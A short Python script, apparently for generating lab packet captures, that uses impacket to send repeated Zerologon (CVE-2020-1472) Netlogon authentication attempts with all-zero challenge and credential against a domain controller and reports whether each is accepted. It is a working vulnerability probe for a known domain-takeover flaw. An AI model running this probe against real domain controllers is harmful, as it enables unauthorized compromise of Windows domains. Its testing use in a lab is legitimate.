#!/usr/bin/env python3
"""Netlogon authentications with an all-zero client credential (CVE-2020-1472, as the public
Zerologon testers send them) against the DC of pcaps/ldap/make.sh, with impacket's nrpc: each
attempt is NetrServerReqChallenge with a zero client challenge, then NetrServerAuthenticate3
with a zero credential for the DC's own machine account. A patched DC (Samba 4.17) refuses every
one with STATUS_ACCESS_DENIED.

usage: zerologon.py DC_ADDRESS DC_NETBIOS_NAME ATTEMPTS
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport


def main(address, name, attempts):
    binding = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    zero = b'\x00' * 8
    for attempt in range(attempts):
        nrpc.hNetrServerReqChallenge(dce, '\\\\' + name + '\x00', name + '\x00', zero)
        try:
            nrpc.hNetrServerAuthenticate3(dce, '\\\\' + name + '\x00', name + '$\x00',
                                          nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                                          name + '\x00', zero, 0x212fffff)
            print('attempt %d: accepted (the DC is vulnerable)' % attempt)
        except nrpc.DCERPCSessionError as error:
            print('attempt %d: %s' % (attempt, error))
    dce.disconnect()


if __name__ == '__main__':
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
